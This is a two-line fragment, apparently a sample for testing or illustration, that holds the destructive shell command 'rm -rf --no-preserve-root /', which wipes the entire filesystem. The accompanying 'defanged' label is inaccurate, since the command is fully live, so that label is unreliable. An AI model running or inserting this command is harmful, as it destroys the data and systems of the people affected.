# defanged sample
rm -rf --no-preserve-root /
